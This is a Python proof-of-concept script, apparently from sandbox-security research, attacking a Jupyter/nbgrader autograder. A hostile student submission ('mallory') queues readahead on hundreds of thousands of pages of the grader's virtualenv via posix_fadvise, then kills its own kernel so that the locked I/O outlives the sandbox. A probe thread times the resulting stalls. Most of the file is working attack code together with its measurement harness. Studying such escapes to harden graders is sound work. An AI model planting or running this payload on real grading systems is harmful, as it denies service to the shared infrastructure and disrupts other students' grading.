"""a02: a01's page-lock inversion made to outlive the sandbox. Mallory's last answer cell evicts and queues one
readahead bio per page of the whole venv (grader-side packages first: nbgrader, nbconvert, jinja2, matplotlib,
pygments, sqlalchemy, ...), then SIGKILLs its own kernel so its submission ends at once. Its throttle queue
(1,000 bios/s) keeps draining, with every queued page locked, after its sandbox and cgroup are gone. Default
--workers 2 (one per core). A host thread times 1-byte reads of venv files during and up to 150 s after grading.
Usage: a02_throttle_queue_outlives.py attack|control"""
import os, sys, time, threading, random, json
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *

MODE = sys.argv[1] if len(sys.argv) > 1 else "attack"
NPAGES = int(os.environ.get("NPAGES", "400000"))
WORKERS = os.environ.get("WORKERS", "2")
PAYLOAD = r'''
import os, sys, time, signal
_t0 = time.time()
_sp = [p for p in sys.path if p.endswith("site-packages")][0]
_first = ["nbgrader", "nbconvert", "jinja2", "matplotlib", "pygments", "sqlalchemy", "bleach", "mistune", "nbformat",
          "jsonschema", "fastjsonschema", "nbclient", "jupyter_client", "traitlets", "zmq", "tornado", "PIL", "numpy",
          "psutil", "tinycss2", "markupsafe", "pandas", "IPython", "ipykernel"]
_files = []
for _top in _first + sorted(set(os.listdir(_sp)) - set(_first)) + ["/usr/lib/python3.11", sys.base_prefix]:
    _root = _top if _top.startswith("/") else os.path.join(_sp, _top)
    for _d, _ds, _fs in os.walk(_root):
        _ds.sort()
        for _f in sorted(_fs):
            _p = os.path.join(_d, _f)
            try:
                _st = os.stat(_p, follow_symlinks=False)
            except OSError:
                continue
            if (_st.st_mode & 0o170000) == 0o100000 and _st.st_size > 0:
                _files.append((_p, _st.st_size))
_queued = 0
for _p, _sz in _files:
    if _queued >= __NPAGES__:
        break
    try:
        _fd = os.open(_p, os.O_RDONLY)
    except OSError:
        continue
    try:
        os.posix_fadvise(_fd, 0, 0, os.POSIX_FADV_DONTNEED)
        for _off in range(0, _sz, 4096):
            os.posix_fadvise(_fd, _off, 4096, os.POSIX_FADV_WILLNEED)
            _queued += 1
    except OSError:
        pass
    os.close(_fd)
print(f"A02 queued={_queued} files={len(_files)} in {time.time()-_t0:.1f}s", flush=True)
time.sleep(0.5)
os.kill(os.getpid(), signal.SIGKILL)
'''.replace("__NPAGES__", str(NPAGES))
if MODE == "control":
    PAYLOAD = "import os, signal, time\ntime.sleep(0.5)\nos.kill(os.getpid(), signal.SIGKILL)"

course = make_course("a02" + MODE)
for s in ("aaron", "bob"):
    hand_in(course, s, honest())
hand_in(course, "mallory", hostile(append={"quiz_q5": PAYLOAD}))
for s in ("xena", "yuri", "zoe"):
    hand_in(course, s, honest())

stop = False
lat = []
def probe():
    files = []
    for d, _, fs in os.walk("CLONE/.venv/lib"):
        for f in fs:
            p = os.path.join(d, f)
            if os.path.isfile(p) and not os.path.islink(p) and os.path.getsize(p) > 16384:
                files.append(p)
    rnd = random.Random(7)
    while not stop:
        p = rnd.choice(files)
        try:
            fd = os.open(p, os.O_RDONLY)
            sz = os.fstat(fd).st_size
            off = rnd.randrange(0, sz // 4096) * 4096
            t = time.time(); os.pread(fd, 1, off); dt = time.time() - t
            os.close(fd)
            lat.append((round(t - T0, 1), round(dt, 3), p[len("CLONE/.venv/lib/python3.11/site-packages/"):], off))
        except OSError:
            pass
        time.sleep(0.05)
T0 = time.time()
th = threading.Thread(target=probe, daemon=True); th.start()
p, dt = grade(course, extra=("--workers", WORKERS))
T1 = time.time() - T0
sc = scores(course)
leak_scan(course)
n_during = len(lat)
time.sleep(float(os.environ.get("AFTER", "150")))
stop = True
th.join(timeout=600)
def summ(rows, label):
    ls = sorted(r[1] for r in rows)
    if not ls:
        print(label, "no reads"); return
    print(f"{label}: reads={len(ls)} median={ls[len(ls)//2]} p99={ls[int(len(ls)*.99)]} max={ls[-1]} over1s={sum(1 for x in ls if x>1)} total_blocked={sum(ls):.1f}s")
print(f"grading ended at t={T1:.1f}s")
summ([r for r in lat if r[0] < T1], "probe during grading")
summ([r for r in lat if r[0] >= T1], "probe after grading (sandboxes gone)")
print("slowest:", sorted(lat, key=lambda r: -r[1])[:10])
print("blocked reads after grading:", [r for r in lat if r[0] >= T1 and r[1] > 1][:20])
try:
    for i, t in outputs_grep(course, "mallory", "A02"):
        print("mallory cell", i, t[:300])
except Exception as e:
    print("outputs", e)
os.system("ls /sys/fs/cgroup/blkio/ | head; ps -eo pid,user,stat,etime,cmd | grep -v ' ps ' | awk '$2!=\"root\"' | head")
